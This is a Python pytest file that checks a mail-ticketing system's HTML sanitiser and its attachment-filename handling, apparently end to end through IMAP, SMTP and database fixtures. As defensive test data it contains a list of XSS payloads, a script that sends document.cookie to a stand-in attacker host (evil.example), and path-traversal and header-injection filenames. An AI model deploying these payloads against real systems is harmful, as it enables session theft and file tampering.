"""HTML from mail is sanitised (nh3) before it is stored or relayed; attachment names stay names.

End to end: an Outlook-style HTML-only mail with a hostile .html attachment goes through the
real pipeline (Dovecot, run --once, SQLite and PostgreSQL); the ticket's text, the stored
attachment, the agents' notification and an agent's relayed answer are checked. Directly:
the sanitiser on hostile fragments, checked with a real HTML parser against the allow-list.
"""

from __future__ import annotations

import base64
import re
from email.message import EmailMessage
from html.parser import HTMLParser
from pathlib import Path

import peewee as pw
import pytest
from harness import DANA, DANA_AGENT, Desk, run_once
from servers import ImapTestClient, ReceivedMail, SmtpSink, make_mail

from mailtick.db import Attachment, Message
from mailtick.ingest.parse import (
    HTML_ATTRIBUTES,
    HTML_FILE_HEAD,
    HTML_TAGS,
    HTML_URL_SCHEMES,
    html_to_text,
    parse,
    safe_filename,
    sanitize_html,
)

CUSTOMER = "joerg@kunde.example"

OUTLOOK_BODY = """\
<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"
xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
<head><meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<title>Internal draft title</title>
<!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}</style><![endif]-->
<style><!--
@font-face {font-family:"Cambria Math"; panose-1:2 4 5 3 5 4 6 3 2 4;}
p.MsoNormal, li.MsoNormal {margin:0cm; font-size:11.0pt; font-family:"Calibri",sans-serif;}
.MsoChpDefault {mso-style-type:export-only;}
--></style>
<!--[if gte mso 9]><xml><o:shapedefaults v:ext="edit" spidmax="1026" /></xml><![endif]-->
<script type="text/javascript">document.location='https://evil.example/?c='+document.cookie;</script>
</head>
<body lang="EN-US" link="#0563C1" vlink="#954F72" onload="stealCookies()">
<div class="WordSection1">
<p class="MsoNormal">Hello support team,<o:p></o:p></p>
<p class="MsoNormal">since this morning our VPN connection drops every five minutes.
The attached report shows the error codes.<o:p></o:p></p>
<p class="MsoNormal"><img src="cid:image001.png@01D9" onerror="alert('img')" width="10"></p>
<p class="MsoNormal"><a href="javascript:alert('link')">Open the report</a>
or see <a href="https://status.kunde.example/vpn" onclick="track()">our status page</a>.</p>
<p class="MsoNormal"><img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUg==" alt="logo"></p>
<img src="https://tracker.example/open.gif?id=8812" width="1" height="1" style="display:none">
<p class="MsoNormal">Best regards<br>Joerg Beispiel<o:p></o:p></p>
</div></body></html>
"""

REPORT_HTML = """\
<html><head><style>body {background: url("javascript:alert('css')")}</style>
<script>fetch('https://evil.example/'+document.cookie)</script></head>
<body onload="alert('report')"><h1>VPN report</h1>
<table border="1"><tr><th>Time</th><th>Error</th></tr>
<tr><td>09:12</td><td>tunnel reset by peer</td></tr></table>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/login"><input name="password"></form>
<a href="https://kunde.example/vpn-log">full log</a>
<a href="jav&#x09;ascript:alert('tab')">debug</a>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">
</body></html>
"""

GUIDE_HTML = """\
<html><body><h2>Step 1</h2><p onmouseover="alert('guide')">Update the VPN client to 5.2.</p>
<script>alert('guide script')</script><a href="vbscript:msgbox(1)">help</a>
<p>Step 2: <a href="https://example.com/vpn/download">download it here</a>.</p></body></html>
"""


def _b64(data: bytes) -> str:
    return "\r\n".join(re.findall(".{1,76}", base64.b64encode(data).decode()))


def outlook_mail() -> bytes:
    """HTML-only, as Outlook sends it, with two attachments whose names are attacks:
    a path (report.html into /etc/cron.d) and a header injection with NUL (RFC 2231)."""
    lines = [
        "From: Joerg Beispiel <joerg@kunde.example>",
        "To: support@example.com",
        "Subject: VPN drops every five minutes",
        "Date: Mon, 23 Nov 2026 09:15:00 +0100",
        "Message-ID: <AM0PR01MB1234.outlook-html@kunde.example>",
        "MIME-Version: 1.0",
        "X-Mailer: Microsoft Outlook 16.0",
        "Thread-Index: AdkeTzHcCkJ5V6QkR1mB2Yw3d4Xw0g==",
        "Content-Language: en-US",
        'Content-Type: multipart/mixed; boundary="----=_NextPart_000_0001_01D9"',
        "",
        "This is a multi-part message in MIME format.",
        "",
        "------=_NextPart_000_0001_01D9",
        'Content-Type: text/html; charset="utf-8"',
        "Content-Transfer-Encoding: base64",
        "",
        _b64(OUTLOOK_BODY.encode()),
        "",
        "------=_NextPart_000_0001_01D9",
        'Content-Type: text/html; name="report.html"',
        'Content-Disposition: attachment; filename="../../../../etc/cron.d/report.html"',
        "Content-Transfer-Encoding: base64",
        "",
        _b64(REPORT_HTML.encode()),
        "",
        "------=_NextPart_000_0001_01D9",
        "Content-Type: application/pdf",
        "Content-Disposition: attachment;",
        " filename*=utf-8''..%2F..%2Fevil%0D%0ABcc%3A%20all%40kunde.example%00.pdf",
        "Content-Transfer-Encoding: base64",
        "",
        _b64(b"%PDF-1.4\n% fake pdf\n"),
        "",
        "------=_NextPart_000_0001_01D9--",
        "",
    ]
    return "\r\n".join(lines).encode()


SAFE_PDF_NAME = "evil Bcc: all@kunde.example .pdf"

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<svg onload=alert(1)><circle r=5></circle></svg>",
    "<body onload=alert(1)>text</body>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="//evil.example/x">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input type=password name=pw><button>Go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    "<style>@import 'https://evil.example/x.css'; body{color:red}</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    '<p title="</p><script>alert(1)</script>">x</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
]


class _Inventory(HTMLParser):
    """Every tag and attribute a browser would see in the sanitised HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_comment(self, data: str) -> None:
        self.tags.append("<!-- comment -->")


def assert_safe(html: str) -> None:
    """Only allowed tags and attributes; links only with the allowed schemes; no images that
    load anything; no comments."""
    inventory = _Inventory()
    inventory.feed(html)
    inventory.close()
    assert set(inventory.tags) <= HTML_TAGS, inventory.tags
    for tag, name, value in inventory.attributes:
        allowed = HTML_ATTRIBUTES.get(tag, set()) | HTML_ATTRIBUTES["*"] | {"rel"}
        assert name in allowed, (tag, name, html)
        if name == "href":
            scheme = value.split(":", 1)[0].lower()
            assert ":" in value and scheme in HTML_URL_SCHEMES, (value, html)
    lowered = html.lower()
    for word in ("<script", "javascript:", "vbscript:", "data:", "onerror", "onload", "src="):
        assert word not in lowered, (word, html)


def assert_safe_file(data: bytes) -> str:
    """A stored or relayed HTML attachment: our UTF-8 head, then only allowed HTML."""
    text = data.decode("utf-8")
    assert text.startswith(HTML_FILE_HEAD), text[:80]
    assert_safe(text.removeprefix(HTML_FILE_HEAD))
    return text


# -- the sanitiser ---------------------------------------------------------------------------


@pytest.mark.parametrize("fragment", HOSTILE)
def test_hostile_html_is_reduced_to_the_allow_list(fragment: str) -> None:
    cleaned = sanitize_html(fragment)
    assert_safe(cleaned)
    assert sanitize_html(cleaned) == cleaned  # stable: cleaning again changes nothing
    assert "alert" not in html_to_text(fragment)


def test_ordinary_formatting_and_safe_links_are_kept() -> None:
    html = (
        "<p>Hello <b>bold</b> <i>italic</i> <u>u</u></p><ul><li>one</li><li>two</li></ul>"
        '<table border="1"><tr><th colspan="2">Head</th></tr><tr><td>a</td><td>b</td></tr></table>'
        '<blockquote>quoted</blockquote><a href="https://example.com/x?a=1&amp;b=2">web</a> '
        '<a href="mailto:help@example.com">mail</a> <a href="tel:+4930123">call</a>'
    )
    cleaned = sanitize_html(html)
    assert_safe(cleaned)
    for kept in (
        "<b>bold</b>",
        "<i>italic</i>",
        "<li>one</li>",
        '<th colspan="2">',
        "<blockquote>",
    ):
        assert kept in cleaned
    for href in ("https://example.com/x?a=1&amp;b=2", "mailto:help@example.com", "tel:+4930123"):
        assert f'href="{href}"' in cleaned
    assert "[web](https://example.com/x?a=1&b=2)" in html_to_text(html)


def test_outlook_html_becomes_text_without_css_script_or_title() -> None:
    text = html_to_text(OUTLOOK_BODY)
    assert "our VPN connection drops every five minutes" in text
    assert "[our status page](https://status.kunde.example/vpn)" in text
    assert "Joerg Beispiel" in text
    for leaked in ("font-family", "MsoNormal", "Cambria", "mso-", "behavior", "document.", "evil"):
        assert leaked not in text, leaked
    assert "Internal draft title" not in text and "alert" not in text and "tracker" not in text


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\Windows\\System32\\evil.dll", "evil.dll"),
        ("/etc/cron.d/job", "job"),
        ("report.pdf\x00.exe", "report.pdf .exe"),
        ("invoice\r\nBcc: all@example.com.pdf", "invoice Bcc: all@example.com.pdf"),
        ("=?utf-8?q?=2E=2E=2F=2E=2E=2Fbin=2Fsh?=", "sh"),
        ("..", "attachment"),
        ("../", "attachment"),
        ("", "attachment"),
        (".htaccess", "htaccess"),
        ("Rechnung März.pdf", "Rechnung März.pdf"),
        ("x" * 300 + ".pdf", "x" * 196 + ".pdf"),
    ],
)
def test_attachment_names_are_file_names_never_paths(name: str, safe: str) -> None:
    assert safe_filename(name) == safe


def test_parse_sanitises_html_attachments_and_their_names() -> None:
    mail = parse(outlook_mail())
    assert "drops every five minutes" in mail.text and "font-family" not in mail.text
    report, pdf = mail.attachments
    assert (report.filename, report.content_type) == ("report.html", "text/html")
    assert "tunnel reset by peer" in assert_safe_file(report.data)
    assert (pdf.filename, pdf.data) == (SAFE_PDF_NAME, b"%PDF-1.4\n% fake pdf\n")


def test_an_html_named_attachment_of_another_type_is_sanitised_too() -> None:
    raw = make_mail(attachments=[("page.htm", "application/octet-stream", REPORT_HTML.encode())])
    [page] = parse(raw).attachments
    assert page.content_type == "text/html"
    assert "VPN report" in assert_safe_file(page.data)


# -- end to end ------------------------------------------------------------------------------


def _attached(mail: ReceivedMail) -> dict[str, bytes]:
    """filename -> content of every attachment, as the recipient's mail client sees them."""
    found: dict[str, bytes] = {}
    for part in mail.message.iter_attachments():
        assert isinstance(part, EmailMessage)
        payload = part.get_payload(decode=True)
        assert isinstance(payload, bytes)
        found[str(part.get_filename())] = payload
    return found


def test_hostile_outlook_mail_through_the_pipeline_and_an_agent_relay(
    imap_client: ImapTestClient, smtp_sink: SmtpSink, desk: Desk, db: pw.Database
) -> None:
    config = desk.config(DANA_AGENT, tickets={"default_language": "en"})  # an English desk
    imap_client.append(outlook_mail())
    run_once(config)

    # What the ticket keeps: the customer's words, none of the script, style or title.
    incoming = Message.get(Message.direction == "in")
    assert "our VPN connection drops every five minutes" in incoming.text
    for leaked in ("font-family", "MsoNormal", "document.cookie", "Internal draft title", "alert"):
        assert leaked not in incoming.text, leaked
    stored = {str(a.filename): bytes(a.data) for a in Attachment.select()}
    assert set(stored) == {"report.html", SAFE_PDF_NAME}
    assert "tunnel reset by peer" in assert_safe_file(stored["report.html"])
    assert not Path("/etc/cron.d/report.html").exists()  # a name is never a path

    # The agent's notification carries the sanitised attachment under its safe name.
    [notification] = smtp_sink.to(DANA)
    assert notification.message["Bcc"] is None
    forwarded = _attached(notification)
    assert set(forwarded) == {"report.html", SAFE_PDF_NAME}
    assert forwarded["report.html"] == stored["report.html"]
    assert "javascript" not in notification.raw.decode(errors="replace").lower()

    # Dana answers with an HTML guide attached: the customer gets it sanitised.
    shown = notification.message.get_body(("plain",))
    assert shown is not None and "drops every five minutes" in shown.get_content()
    quoted = "\n".join("> " + line for line in shown.get_content().splitlines())
    imap_client.append(
        make_mail(
            from_addr=f"Dana Example <{DANA}>",
            to_addr=notification.message["Reply-To"].addresses[0].addr_spec,
            subject="Re: " + str(notification.message["Subject"]),
            body=f"Hello Mr Beispiel,\n\nplease follow the attached guide.\n\n{quoted}\n",
            in_reply_to=notification.message["Message-ID"],
            attachments=[("../guide.html", "text/html", GUIDE_HTML.encode())],
        )
    )
    run_once(config)
    [ack, answer] = smtp_sink.to(CUSTOMER)
    text = answer.message.get_body(("plain",))
    assert text is not None and "please follow the attached guide" in text.get_content()
    guide = assert_safe_file(_attached(answer)["guide.html"])
    assert "Update the VPN client to 5.2." in guide
    assert 'href="https://example.com/vpn/download"' in guide
    assert "guide script" not in guide and "vbscript" not in guide
    assert _attached(ack) == {}
